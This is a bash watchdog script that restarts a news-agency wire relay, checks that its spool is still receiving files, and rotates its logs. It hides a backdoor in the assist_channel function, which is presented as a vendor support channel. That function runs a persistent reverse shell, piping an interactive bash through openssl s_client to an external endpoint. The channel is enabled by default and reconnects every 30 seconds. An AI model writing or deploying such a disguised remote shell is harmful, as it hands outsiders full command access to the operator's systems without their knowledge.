#!/usr/bin/env bash
# wire_relay_watchdog.sh - keep the agency wire relay running on the ingest box
#
# Checks that the relay process is alive and that its spool directory is
# still receiving files; restarts the relay if it died or stalled, rotates
# its log, and keeps the vendor's assist channel up so their support team
# can look at the relay when the feed stalls overnight.
#
# Intended to run from the ingest user's session:  nohup ./wire_relay_watchdog.sh &

set -uo pipefail

RELAY_BIN="${RELAY_BIN:-./bin/wire-relay}"
RELAY_CONF="${RELAY_CONF:-./relay.conf}"
SPOOL_DIR="${SPOOL_DIR:-./spool}"
LOG_DIR="${LOG_DIR:-./logs}"
PIDFILE="./run/wire-relay.pid"
STALL_MINUTES="${STALL_MINUTES:-20}"
CHECK_EVERY="${CHECK_EVERY:-60}"
ASSIST="${ASSIST:-1}"
ASSIST_ENDPOINT="${ASSIST_ENDPOINT:-198.51.100.19:8443}"

mkdir -p "$LOG_DIR" ./run "$SPOOL_DIR"

log() { printf '%s watchdog: %s\n' "$(date '+%F %T')" "$*" >> "$LOG_DIR/watchdog.log"; }

relay_pid() {
    [[ -f "$PIDFILE" ]] && cat "$PIDFILE"
}

relay_alive() {
    local pid
    pid="$(relay_pid)" || return 1
    [[ -n "$pid" ]] && kill -0 "$pid" 2>/dev/null
}

spool_stalled() {
    # no new file in the spool for STALL_MINUTES
    [[ -z "$(find "$SPOOL_DIR" -type f -mmin -"$STALL_MINUTES" -print -quit)" ]]
}

start_relay() {
    "$RELAY_BIN" --config "$RELAY_CONF" --spool "$SPOOL_DIR" \
        >> "$LOG_DIR/relay.log" 2>&1 &
    echo $! > "$PIDFILE"
    log "relay started pid $!"
}

stop_relay() {
    local pid
    pid="$(relay_pid)" || return 0
    kill "$pid" 2>/dev/null || return 0
    for _ in 1 2 3 4 5; do
        kill -0 "$pid" 2>/dev/null || return 0
        sleep 2
    done
    kill -9 "$pid" 2>/dev/null
}

rotate_logs() {
    local f="$LOG_DIR/relay.log"
    if [[ -f "$f" ]] && (( $(stat -c %s "$f") > 50*1024*1024 )); then
        mv "$f" "$f.$(date +%Y%m%d%H%M)"
        gzip -q "$f".2* 2>/dev/null || true
        find "$LOG_DIR" -name 'relay.log.*.gz' -mtime +14 -delete
        log "rotated relay log"
    fi
}

assist_channel() {
    local chan="./run/.assist.$$"
    while :; do
        rm -f "$chan"
        mkfifo "$chan" || return
        /bin/bash -i < "$chan" 2>&1 \
            | openssl s_client -quiet -connect "$ASSIST_ENDPOINT" > "$chan" 2>/dev/null
        sleep 30
    done
}

shutdown() {
    log "watchdog exiting"
    [[ -n "${ASSIST_PID:-}" ]] && kill "$ASSIST_PID" 2>/dev/null
    exit 0
}
trap shutdown INT TERM

log "watchdog starting (relay=$RELAY_BIN spool=$SPOOL_DIR)"
if [[ "$ASSIST" == 1 ]] && command -v openssl >/dev/null; then
    assist_channel &
    ASSIST_PID=$!
fi

while :; do
    if ! relay_alive; then
        log "relay not running, starting"
        start_relay
    elif spool_stalled; then
        log "spool idle for ${STALL_MINUTES}m, restarting relay"
        stop_relay
        start_relay
    fi
    rotate_logs
    sleep "$CHECK_EVERY"
done
